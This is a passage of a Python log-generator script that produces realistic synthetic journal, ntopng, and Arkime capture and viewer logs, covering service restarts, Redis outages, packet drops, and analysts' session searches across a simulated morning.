            txt,
        )
        t = K(
            s,
            t + sec(5),
            "INFO",
            "Attempting to re-open source %s",
            "Attempting to re-open source wlan1",
        )
        if n == 14:
            break
        t = K(
            s,
            t + sec(0.3),
            "ERROR",
            "Data source %s (%s) encountered an error: Could not find interface '%s'",
            "Data source wlan1 (wlan1) encountered an error: Could not find interface 'wlan1'",
        )
    K(
        s,
        t + sec(1.2),
        "ALERT",
        "SOURCEOPEN Source %s successfully re-opened",
        "SOURCEOPEN Source wlan1 successfully re-opened",
    )
    return fs.logs(T0)


# ----------------------------------------------------------------------------------- ntopng


def ntopng(r: random.Random) -> list[Log]:
    """Two ntopng probes, 06:00 to 12:00 (see the module docstring)."""
    fs = Files()
    desc = "ntopng.service - ntopng high-speed web-based traffic monitoring and analysis tool"

    def N(
        host: str, pid: int, t: datetime, label: str, where: str, msg: str, level: str = ""
    ) -> datetime:
        """ntopng's trace line on stdout; errors and warnings are sent to syslog as well (the
        same text without the date, a journal entry of its own)."""
        extra = {"ERROR": "ERROR: ", "WARNING": "WARNING: "}.get(level, "")

        def text(x: datetime) -> list[str]:
            return [
                f"{iso_s(x)} {host} ntopng[{pid}]: {x:%d/%b/%Y %H:%M:%S} [{where}] {extra}{msg}"
            ]

        t = fs.add(f"{host}-journal.log", t, label, text, (host, pid), SEC)
        if level:
            fs.add(
                f"{host}-journal.log",
                t,
                label,
                lambda x: [f"{iso_s(x)} {host} ntopng[{pid}]: [{where}] {extra}{msg}"],
                (host, pid, "syslog"),
                SEC,
            )
        return t

    def sd(host: str, t: datetime, label: str, msg: str) -> datetime:
        return fs.add(
            f"{host}-journal.log",
            t,
            label,
            lambda x: [f"{iso_s(x)} {host} systemd[1]: {msg}"],
            (host, "systemd"),
            SEC,
        )

    def startup(
        host: str,
        pid: int,
        t: datetime,
        ifaces: list[tuple[str, str, str]],
        nets: str,
        gro: list[str],
        fail_http: bool = False,
    ) -> datetime:
        t = N(
            host,
            pid,
            t,
            "Setting local networks to %s",
            "Ntop.cpp:2795",
            f"Setting local networks to {nets}",
        )
        for _ in range(2):
            t = N(
                host,
                pid,
                t + sec(0.2),
                "Successfully connected to redis %s:%u@%u",
                "Redis.cpp:211",
                "Successfully connected to redis 127.0.0.1:6379@0",
            )
        for i, (ifname, _, _) in enumerate(ifaces, 1):
            t = N(
                host,
                pid,
                t + sec(0.3),
                "Reading packets from interface %s...",
                "PcapInterface.cpp:103",
                f"Reading packets from interface {ifname}...",
            )
            t = N(
                host,
                pid,
                t,
                "Registered interface %s [id: %d]",
                "Ntop.cpp:2573",
                f"Registered interface {ifname} [id: {i}]",
            )
        t = N(
            host,
            pid,
            t + sec(0.4),
            "PID stored in file %s",
            "main.cpp:323",
            "PID stored in file /var/run/ntopng.pid",
        )
        if fail_http:
            t = N(
                host,
                pid,
                t + sec(0.5),
                "Unable to start HTTP server (IPv4) on ports %s %s",
                "HTTPserver.cpp:1711",
                "Unable to start HTTP server (IPv4) on ports 3000 Address already in use",
                "ERROR",
            )
            return N(
                host,
                pid,
                t,
                "Either port in use or another ntopng instance is running (using the same port)",
                "HTTPserver.cpp:1712",
                "Either port in use or another ntopng instance is running (using the same port)",
                "ERROR",
            )
        t = N(
            host,
            pid,
            t + sec(0.5),
            "HTTPS Disabled: missing SSL certificate %s",
            "HTTPserver.cpp:1574",
            "HTTPS Disabled: missing SSL certificate /usr/share/ntopng/httpdocs/ssl/ntopng-cert.pem",
        )
        t = N(
            host,
            pid,
            t,
            "Please read https://github.com/ntop/ntopng/blob/dev/doc/README.SSL if you want to enable SSL.",
            "HTTPserver.cpp:1576",
            "Please read https://github.com/ntop/ntopng/blob/dev/doc/README.SSL if you want to enable SSL.",
        )
        t = N(
            host,
            pid,
            t,
            "Unable to retain privileges for privileged file writing",
            "Utils.cpp:715",
            "Unable to retain privileges for privileged file writing",
            "WARNING",
        )
        t = N(host, pid, t, "User changed to %s", "Utils.cpp:744", "User changed to ntopng")
        t = N(
            host,
            pid,
            t,
            "Web server dirs [%s][%s]",
            "HTTPserver.cpp:1740",
            "Web server dirs [/usr/share/ntopng/httpdocs][/usr/share/ntopng/scripts]",
        )
        t = N(
            host,
            pid,
            t,
            "HTTP server listening on %s",
            "HTTPserver.cpp:1743",
            "HTTP server listening on 3000",
        )
        t = N(
            host,
            pid,
            t,
            "Working directory: %s",
            "main.cpp:410",
            "Working directory: /var/lib/ntopng",
        )
        t = N(
            host,
            pid,
            t,
            "Scripts/HTML pages directory: %s",
            "main.cpp:412",
            "Scripts/HTML pages directory: /usr/share/ntopng",
        )
        t = N(
            host,
            pid,
            t,
            "Welcome to %s %s v.%s (%s)",
            "Ntop.cpp:515",
            "Welcome to ntopng x86_64 v.6.0.240607 (6.0-stable:4a2b9e1fd)",
        )
        t = N(host, pid, t, "Built on %s", "Ntop.cpp:519", "Built on Ubuntu 22.04.4 LTS")
        t = N(host, pid, t, "(C) 1998-24 ntop", "Ntop.cpp:521", "(C) 1998-24 ntop")
        for ifname, addr, net in ifaces:
            if addr:
                t = N(
                    host,
                    pid,
                    t,
                    "Adding %s as IPv4 interface address for %s",
                    "Ntop.cpp:1130",
                    f"Adding {addr}/32 as IPv4 interface address for {ifname}",
                )
                t = N(
                    host,
                    pid,
                    t,
                    "Adding %s as IPv4 local network for %s",
                    "Ntop.cpp:1138",
                    f"Adding {net} as IPv4 local network for {ifname}",
                )
        t = N(
            host,
            pid,
            t + sec(r.uniform(8, 14)),
            "Started periodic activities loop...",
            "PeriodicActivities.cpp:89",
            "Started periodic activities loop...",
        )
        for i, (ifname, _, _) in enumerate(ifaces, 1):
            t = N(
                host,
                pid,
                t,
                "Started packet polling on interface %s [id: %u]...",
                "NetworkInterface.cpp:3340",
                f"Started packet polling on interface {ifname} [id: {i}]...",
            )
        for ifname in gro:
            tg = t + sec(r.uniform(0.5, 300))
            n = r.choice([2962, 4410, 7240, 8948, 2896, 5792])
            tg = N(
                host,
                pid,
                tg,
                "Invalid packet received [len: %u][max len: %u].",
                "NetworkInterface.cpp:2683",
                f"Invalid packet received [len: {n}][max len: 1518].",
            )
            tg = N(
                host,
                pid,
                tg,
                "If you have TSO/GRO enabled, please disable it",
                "NetworkInterface.cpp:2684",
                "If you have TSO/GRO enabled, please disable it",
                "WARNING",
            )
            N(
                host,
                pid,
                tg,
                "Use sudo ethtool -K %s gro off gso off tso off",
                "NetworkInterface.cpp:2686",
                f"Use sudo ethtool -K {ifname} gro off gso off tso off",
                "WARNING",
            )
        return t

    # ---- nms-hq: restarted by the nightly upgrade at 06:02
    hq = "nms-hq"
    t = sd(hq, at(6, 2, 3), "Stopping %s...", f"Stopping {desc}...")
    t = sd(hq, t + sec(4), "Deactivated successfully.", "ntopng.service: Deactivated successfully.")
    t = sd(hq, t, "Stopped %s.", f"Stopped {desc}.")
    t = sd(hq, t + sec(0.2), "Started %s.", f"Started {desc}.")
    hq_pid = 1187
    hq_ifaces = [("eno2", "", ""), ("eno3", "", ""), ("eno1", "10.20.0.12", "10.20.0.0/24")]
    startup(
        hq,
        hq_pid,
        t + sec(1),
        hq_ifaces,
        "10.20.0.0/16,172.16.0.0/12,192.168.0.0/16",
        ["eno2", "eno3"],
    )

    # Redis OOM-killed eight times 09:05-10:08: every failing call reconnects once
    for start in [
        at(9, 5, 12),
        at(9, 14, 40),
        at(9, 23, 5),
        at(9, 31, 51),
        at(9, 40, 2),
        at(9, 48, 33),
        at(9, 57, 10),
        at(10, 5, 48),
    ]:
        down = r.uniform(40, 90)
        loading = r.uniform(60, 130)
        t = start
        while t < start + sec(down + loading):
            if t < start + sec(down):
                # reconnectRedis(true) gives up after the first failed connect
                t = N(
                    hq,
                    hq_pid,
                    t,
                    "Redis has disconnected, reconnecting [remaining attempts: %u]",
                    "Redis.cpp:126",
                    "Redis has disconnected, reconnecting [remaining attempts: 4]",
                )
                t = N(
                    hq,
                    hq_pid,
                    t + sec(0.3),
                    "Connection error [Connection refused]",
                    "Redis.cpp:141",
                    "Connection error [Connection refused]",
                    "ERROR",
                )
            else:
                t = N(
                    hq,
                    hq_pid,
                    t,
                    "LOADING Redis is loading the dataset in memory",
                    "Redis.cpp:418",
                    "LOADING Redis is loading the dataset in memory",
                    "ERROR",
                )
            t += sec(r.uniform(0.2, 2.2))
        N(
            hq,
            hq_pid,
            t + sec(0.5),
            "Successfully connected to redis %s:%u@%u",
            "Redis.cpp:211",
            "Successfully connected to redis 127.0.0.1:6379@0",
        )

    # ---- nms-branch: the admin restarting ntopng while tuning its options
    br = "nms-branch"
    br_ifaces = [("enp3s0", "10.40.0.8", "10.40.0.0/22")]
    br_pid = 902
    startup(br, br_pid, at(6, 0, 41), br_ifaces, "10.40.0.0/22", [])
    plan = [
        (at(10, 21, 7), False, "10.40.0.0/22,10.40.8.0/24"),
        (at(10, 34, 40), True, "10.40.0.0/22,10.40.8.0/24"),
        (at(10, 52, 18), False, "10.40.0.0/22,10.40.8.0/24,10.41.0.0/16"),
        (at(11, 9, 55), False, "10.40.0.0/21,10.41.0.0/16"),
    ]
    for i, (tr, busy, nets) in enumerate(plan):
        t = sd(br, tr, "Stopping %s...", f"Stopping {desc}...")
        t = sd(
            br,
            t + sec(r.uniform(3, 6)),
            "Deactivated successfully.",
            "ntopng.service: Deactivated successfully.",
        )
        t = sd(br, t, "Stopped %s.", f"Stopped {desc}.")
        t = sd(br, t + sec(0.2), "Started %s.", f"Started {desc}.")
        br_pid += r.randint(300, 900)
        if busy:
            t = startup(br, br_pid, t + sec(1), br_ifaces, nets, [], fail_http=True)
            t = sd(
                br,
                t + sec(0.4),
                "Main process exited, code=%s, status=%s",
                "ntopng.service: Main process exited, code=exited, status=255/EXCEPTION",
            )
            t = sd(
                br, t, "Failed with result '%s'.", "ntopng.service: Failed with result 'exit-code'."
            )
            t = sd(
                br,
                t + sec(5),
                "Scheduled restart job, restart counter is at %d.",
                "ntopng.service: Scheduled restart job, restart counter is at 1.",
            )
            t = sd(br, t, "Stopped %s.", f"Stopped {desc}.")
            t = sd(br, t + sec(0.1), "Started %s.", f"Started {desc}.")
            br_pid += r.randint(10, 40)
        startup(br, br_pid, t + sec(1), br_ifaces, nets, ["enp3s0"] if i % 2 else [])
    return fs.logs(T0)


# ----------------------------------------------------------------------------------- arkime

AK_USERS = ["jdoe", "asmith", "mkowalski"]
AK_EXPR = [
    "ip.src == 10.20.4.77",
    "protocols == smb",
    "host.dns == *.ru",
    "port.dst == 3389",
    "tls.ja3 == e7d705a3286e19ea42f587b344ee6865",
    "country.dst != DE",
    "http.uri == *wp-login*",
    "ip == 10.20.1.15 && port.dst == 445",
]


def arkime(r: random.Random) -> list[Log]:
    """Two Arkime capture nodes and the viewer, 06:00 to 12:00 (see the module docstring)."""
    fs = Files()
    es_red = (at(9, 15, 20), at(9, 36, 40))
    es_url = "http://os-data01.corp.example:9200/_bulk"

    def A(node: str, run: int, t: datetime, label: str, where: str, msg: str) -> datetime:
        return fs.add(
            f"arkime-{node}-capture.log",
            t,
            label,
            lambda x: [f"{x:%b} {x.day:2d} {x:%H:%M:%S} {where} {msg}"],
            (node, run),
            SEC,
        )

    stats_label = "packets: %lu current sessions: %u/%u oldest: %d - recv: %lu drop: %lu (%0.2f) queue: %d disk: %d packet: %d close: %d ns: %d frags: %d/%d pstats: %lu/%lu/%lu/%lu/%lu/%lu/%lu"

    class Node:
        def __init__(self, name: str, pps: float, every_x: int) -> None:
            self.name, self.pps, self.every = name, pps, every_x
            self.run = 0
            self.reset()

        def reset(self) -> None:
            self.run += 1
            self.total = 0
            self.dropped = 0
            self.stats = [0] * 7
            self.qdrops = [0, 0, 0, 0]

    def load(t: datetime, base: float) -> float:
        h = t.hour + t.minute / 60
        f = 0.45 if h < 7 else (2.6 if h < 7.6 else (0.8 if h < 8 else 1.0 + 0.25 * (h - 8)))
        return base * f * r.uniform(0.9, 1.1)

    def run_node(n: Node, t0: datetime, t1: datetime) -> None:
        t = t0
        queue = 0
        while t < t1:
            pps = load(t, n.pps)
            t += sec(n.every / pps)
            if t >= t1:
                break
            n.total += n.every
            sessions = int(pps * r.uniform(0.18, 0.24))
            backup = at(7, 0) <= t < at(7, 35) and n.name == "cap01"
            if backup:
                n.dropped += int(n.every * r.uniform(0.02, 0.09))
            red = es_red[0] <= t < es_red[1] + sec(120)
            queue = min(queue + r.randint(150, 400), 10001) if red else max(0, queue // 8)
            ip_dropped = int(n.every * 0.002)
            n.stats[0] += n.every - ip_dropped
            n.stats[1] += ip_dropped
            n.stats[2] += int(n.every * 0.05) if backup else 0
            n.stats[3] += r.randint(0, 3)
            n.stats[4] += r.randint(10, 90)
            pct = n.dropped * 100.0 / max(1, n.total)
            msg = (
                f"packets: {n.total} current sessions: {sessions}/{int(sessions * r.uniform(1.3, 1.6))} oldest: {r.randint(0, 2)} - recv: {n.total + n.dropped} drop: {n.dropped} ({pct:0.2f}) "
                f"queue: {queue} disk: {r.randint(0, 3) if not backup else r.randint(8, 40)} packet: {r.randint(0, 40) if not backup else r.randint(5000, 50000)} close: {r.randint(0, 12)} ns: {r.randint(0, 6)} frags: 0/{r.randint(0, 30)} "
                f"pstats: {'/'.join(str(v) for v in n.stats)}"
            )
            A(n.name, n.run, t, stats_label, "packet.c:1082 arkime_packet_log():", msg)
            if backup and r.random() < 0.7:
                for th in r.sample(range(4), r.randint(1, 2)):
                    n.qdrops[th] += 10000 if n.qdrops[th] else 1
                    A(
                        n.name,
                        n.run,
                        t + sec(r.uniform(0.1, 3)),
                        "WARNING - Packet Q %u is overflowing, total dropped so far %u.  See https://arkime.com/faq#why-am-i-dropping-packets and modify %s",
                        "packet.c:929 arkime_packet_batch_flush():",
                        f"WARNING - Packet Q {th} is overflowing, total dropped so far {n.qdrops[th]}.  See https://arkime.com/faq#why-am-i-dropping-packets and modify /opt/arkime/etc/config.ini",
                    )

    def es_trouble(n: Node) -> None:
        t = es_red[0] + sec(r.uniform(1, 8))
        queue = 300
        while t < es_red[1]:
            if queue < 10000:
                t = A(
                    n.name,
                    n.run,
                    t,
                    "Retry %s error '%s'",
                    "http.c:621 arkime_http_curlm_check_multi_info():",
                    f"Retry {es_url} error 'Couldn't connect to server'",
                )
                queue += r.randint(400, 1600)
            else:
                t = A(
                    n.name,
                    n.run,
                    t,
                    "ERROR - Dropping request %.*s of size %u queue %u is too big",
                    "http.c:1034 arkime_http_schedule2():",
                    f"ERROR - Dropping request /_bulk of size {r.randint(1_800_000, 3_900_000)} queue {10001 + r.randint(0, 40)} is too big",
                )
            t += sec(r.uniform(4, 14))

    cap01 = Node("cap01", 160_000, 10_000_000)
    cap02 = Node("cap02", 95_000, 10_000_000)
    run_node(cap01, T0 + sec(r.uniform(1, 20)), T_END)
    es_trouble(cap01)
    restart = at(10, 5, 3)
    run_node(cap02, T0 + sec(r.uniform(1, 30)), restart)
    es_trouble(cap02)
    t = A(
        "cap02",
        cap02.run,
        restart + sec(0.6),
        "Final cleanup",
        "main.c:1213 main():",
        "Final cleanup",
    )
    cap02.reset()
    t = A(
        "cap02",
        cap02.run,
        t + sec(4),
        "WARNING: memlock in limits.conf must be unlimited or at least 4000000, currently %lu",
        "main.c:1041 arkime_mlockall_init():",
        "WARNING: memlock in limits.conf must be unlimited or at least 4000000, currently 8192",
    )
    first = t + sec(2.4)
    t = A(
        "cap02",
        cap02.run,
        first,
        "Initial Packet = %ld",
        "packet.c:1260 arkime_packet_process():",
        f"Initial Packet = {int(first.timestamp())}",
    )
    t = A(
        "cap02",
        cap02.run,
        t,
        "%lu Initial Dropped = %d",
        "packet.c:1261 arkime_packet_process():",
        "0 Initial Dropped = 0",
    )
    run_node(cap02, t, T_END)

    # ---- the viewer's access log (morgan, the default accessLogFormat)
    vf = "arkime-viewer.log"

    def V(
        t: datetime, user: str, method: str, url: str, status: int, length: str, label: str
    ) -> datetime:
        ms_ = (
            r.uniform(0.2, 2) if status == 401 else r.uniform(30, 900) * (3 if status == 500 else 1)
        )
        return fs.add(
            vf,
            t,
            label,
            lambda x: [
                f"{x:%a, %d %b %Y %H:%M:%S} GMT {user} \x1b[1m{method}\x1b[0m \x1b[33m{url}\x1b[0m {status} {length} bytes {ms_:.3f} ms"
            ],
            ("viewer", user, method, url),
            SEC,
        )

    for tc in every(r, T0 + sec(9), T_END, 60, 1.5):
        V(tc, "-", "GET", "/", 401, "-", "GET / 401")

    def ids(node: str) -> str:
        return f"240607-{r.choice(['Kx', 'Lq', 'Mr', 'Nz'])}{hexid(r, 4)}{r.choice(['a', 'B', 'c'])}-{hexid(r, 6)}"

    def search(t: datetime, user: str) -> datetime:
        red = es_red[0] <= t < es_red[1]
        expr = r.choice(AK_EXPR).replace(" ", "%20").replace("=", "%3D").replace("&", "%26")
        q = f"?date={r.choice([1, 6, 24, 48])}&expression={expr}&length=50&start=0"
        code = 500 if red else 200
        t = V(
            t,
            user,
            "POST",
            "/api/sessions" + q,
            code,
            str(r.randint(90, 400)) if red else str(r.randint(2000, 90000)),
            f"POST /api/sessions {code}",
        )
        if red:
            return t
        for _ in range(r.choice([0, 1, 1, 2, 3])):
            node = r.choice(["cap01", "cap02"])
            sid = ids(node)
            t = V(
                t + sec(r.uniform(3, 40)),
                user,
                "GET",
                f"/api/session/{node}/{sid}/detail",
                200,
                str(r.randint(3000, 14000)),
                "GET /api/session/%s/%s/detail 200",
            )
            if r.random() < 0.6:
                t = V(
                    t + sec(r.uniform(1, 8)),
                    user,
                    "GET",
                    f"/api/session/{node}/{sid}/packets?base=natural&line=false&image=false&decode=%7B%7D&showFrames=false&showSrc=true&showDst=true&ts=false&packets=200",
                    200,
                    str(r.randint(2000, 60000)),
                    "GET /api/session/%s/%s/packets 200",
                )
        if r.random() < 0.35:
            t = V(
                t + sec(r.uniform(2, 20)),
                user,
                "POST",
                "/api/spiview" + q + "&spi=ip.dst:100,ip.src:100,protocol:100",
                200,
                str(r.randint(5000, 40000)),
                "POST /api/spiview 200",
            )
        if r.random() < 0.2:
            t = V(
                t + sec(r.uniform(2, 20)),
                user,
                "POST",
                "/api/connections" + q + "&srcField=ip.src&dstField=ip.dst.port&baselineDate=0",
                200,
                str(r.randint(8000, 120000)),
                "POST /api/connections 200",
            )
        return t

    shifts = {
        "jdoe": (at(6, 55), T_END),
        "asmith": (at(7, 40), T_END),
        "mkowalski": (at(9, 10), at(11, 45)),
    }
    for user, (a, b) in shifts.items():
        t = a + sec(r.uniform(0, 300))
        t = V(t, user, "GET", "/api/user", 200, str(r.randint(800, 1200)), "GET /api/user 200")
        t = V(
            t + sec(0.5),
            user,
            "GET",
            "/api/fields?array=true",
            200,
            str(r.randint(150000, 180000)),
            "GET /api/fields 200",
        )
        while t < b:
            t += sec(r.uniform(60, 420))
            if t >= b:
                break
            t = search(t, user)
            if r.random() < 0.08:
                t = V(
                    t + sec(r.uniform(5, 60)),
                    user,
                    "GET",
                    "/api/stats?length=50&start=0",
                    200,
                    str(r.randint(3000, 6000)),
                    "GET /api/stats 200",
                )
    # the on-call analyst retrying while OpenSearch is red
    t = es_red[0] + sec(50)
    while t < es_red[1]:
        t = search(t, "jdoe")
        t += sec(r.uniform(15, 70))
    return fs.logs(T0)


SYSTEMS = {
    "cowrie": cowrie,
    "opencanary": opencanary,
    "kismet": kismet,
    "ntopng": ntopng,
    "arkime": arkime,
}

if __name__ == "__main__":
    raise SystemExit(generate(SYSTEMS, sys.argv[1:]))
